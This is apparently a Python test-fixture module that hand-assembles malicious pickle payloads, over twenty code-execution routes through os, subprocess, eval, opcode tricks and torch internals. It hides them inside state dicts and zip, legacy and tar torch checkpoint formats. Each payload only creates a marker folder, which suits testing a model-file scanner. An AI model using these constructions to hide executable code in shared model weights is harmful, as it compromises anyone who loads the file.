"""Pickles that run code when they are opened: each makes a folder, the sign that it has run.

Written opcode by opcode: what attackers send was not made by pickle.dumps. A payload is a stretch of opcodes that
leaves one value on the stack; a container puts it where weights are expected.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable

import torch

EXTENSION = 0xF7
"""The code that the test registers os.mkdir under, as pickle's extension registry allows."""


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(dotted: str) -> bytes:
    module, _, attribute = dotted.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def run(dotted: str, *arguments: str) -> bytes:
    return call(name(dotted), *map(text, arguments))


def listed(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def raw_bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def stack_global(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def statement(sign: str) -> str:
    return f"__import__('os').mkdir({sign!r})"


PAYLOADS: dict[str, Callable[[str], bytes]] = {
    "os.mkdir": lambda sign: run("os.mkdir", sign),
    "os.system": lambda sign: run("os.system", f"mkdir '{sign}'"),
    "posix.system": lambda sign: run("posix.system", f"mkdir '{sign}'"),
    "subprocess": lambda sign: call(name("subprocess.check_output"), listed(text("mkdir"), text(sign))),
    "eval": lambda sign: run("builtins.eval", statement(sign)),
    "exec": lambda sign: run("builtins.exec", statement(sign)),
    "timeit": lambda sign: call(
        name("timeit.timeit"), text(statement(sign)), text("pass"), name("time.time"), b"K\x01"
    ),
    "an attribute of an import": lambda sign: call(
        call(name("builtins.getattr"), run("importlib.import_module", "os"), text("mkdir")), text(sign)
    ),
    "__import__": lambda sign: call(
        call(name("builtins.getattr"), run("builtins.__import__", "os"), text("mkdir")), text(sign)
    ),
    "partial": lambda sign: call(call(name("functools.partial"), name("os.mkdir"), text(sign))),
    "methodcaller": lambda sign: call(run("operator.methodcaller", "mkdir"), run("pathlib.Path", sign)),
    "list of map": lambda sign: call(
        name("builtins.list"), call(name("builtins.map"), name("os.mkdir"), listed(text(sign)))
    ),
    "opcode INST": lambda sign: b"(" + text(sign) + b"ios\nmkdir\n",
    "opcode OBJ": lambda sign: b"(" + name("os.mkdir") + text(sign) + b"o",
    "opcode STACK_GLOBAL": lambda sign: call(stack_global("os", "mkdir"), text(sign)),
    "opcode EXT1": lambda sign: call(b"\x82" + bytes([EXTENSION]), text(sign)),
    "a dotted name in torch": lambda sign: call(stack_global("torch", "os.mkdir"), text(sign)),
    "torch's shell": lambda sign: run("torch.utils.collect_env.run", f"mkdir '{sign}'"),
    "torch.load, nested": lambda sign: call(
        name("torch.storage._load_from_bytes"), raw_bytes(legacy(in_dict(run("os.mkdir", sign))))
    ),
    "torch's own rebuilding": lambda sign: call(
        name("torch._tensor._rebuild_from_type_v2"),
        name("os.mkdir"),
        name("builtins.int"),
        b"(" + text(sign) + b"t",
        b"N",
    ),
    "a module that is imported": lambda sign: name("evil_module.nothing"),
}


def in_dict(payload: bytes) -> bytes:
    return b"\x80\x04}" + text("conv1.weight") + payload + b"s."


def as_key(payload: bytes) -> bytes:
    return b"\x80\x04}" + payload + b"K\x01s."


def in_ordered_dict(payload: bytes) -> bytes:
    return b"\x80\x04" + call(name("collections.OrderedDict")) + text("conv1.weight") + payload + b"s."


def in_state_dict(payload: bytes) -> bytes:
    return b"\x80\x04}" + text("state_dict") + b"}" + text("conv1.weight") + payload + b"ss."


def beside_real_tensors(payload: bytes) -> bytes:
    """What runs comes after what is fine: a reader that stops at the first tensors has run nothing yet."""
    fine = pickle.dumps({"epoch": 3, "loss": [0.1, 0.2]}, protocol=4)
    return fine[:-1] + text("optimizer") + payload + b"s."


def state_of(payload: bytes) -> bytes:
    """As the state that an OrderedDict is built from (opcode BUILD)."""
    return b"\x80\x04" + call(name("collections.OrderedDict")) + b"}" + text("_metadata") + payload + b"sb."


def zipped(content: bytes) -> bytes:
    """torch.save's format since 1.6."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for part, body in (("data.pkl", content), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"archive/{part}", body)
    return file.getvalue()


def legacy(content: bytes) -> bytes:
    """torch.save's format before: a magic number, a version, the machine, the object, the keys of storages."""
    magic = pickle.dumps(torch.serialization.MAGIC_NUMBER, protocol=2)
    system = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, protocol=2)
    return magic + pickle.dumps(1001, protocol=2) + system + content + pickle.dumps([], protocol=2)


def in_the_machine_s_description(content: bytes) -> bytes:
    """The legacy format, the evil where nobody looks for weights."""
    magic = pickle.dumps(torch.serialization.MAGIC_NUMBER, protocol=2)
    return magic + pickle.dumps(1001, protocol=2) + content + pickle.dumps({}) + pickle.dumps([])


def tarred(content: bytes) -> bytes:
    """torch's format of before 0.2: a tar of pickles."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for part in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(part)
            body = pickle.dumps(0) + b"" if part != "pickle" else content
            entry.size = len(body)
            archive.addfile(entry, io.BytesIO(body))
    return file.getvalue()


def plain(content: bytes) -> bytes:
    return content


PLACES = (in_dict, as_key, in_ordered_dict, in_state_dict, beside_real_tensors, state_of)
FORMATS = (plain, zipped, legacy, in_the_machine_s_description, tarred)
EVERY = [
    *((f"{payload}, zipped", payload, in_dict, zipped) for payload in PAYLOADS),
    *((f"{place.__name__}, zipped", "os.mkdir", place, zipped) for place in PLACES[1:]),
    *((f"{place.__name__}, legacy", "eval", place, legacy) for place in PLACES),
    *((form.__name__, "eval", in_dict, form) for form in (plain, in_the_machine_s_description, tarred)),
]
"""Name, payload, place in the content, format of the file."""
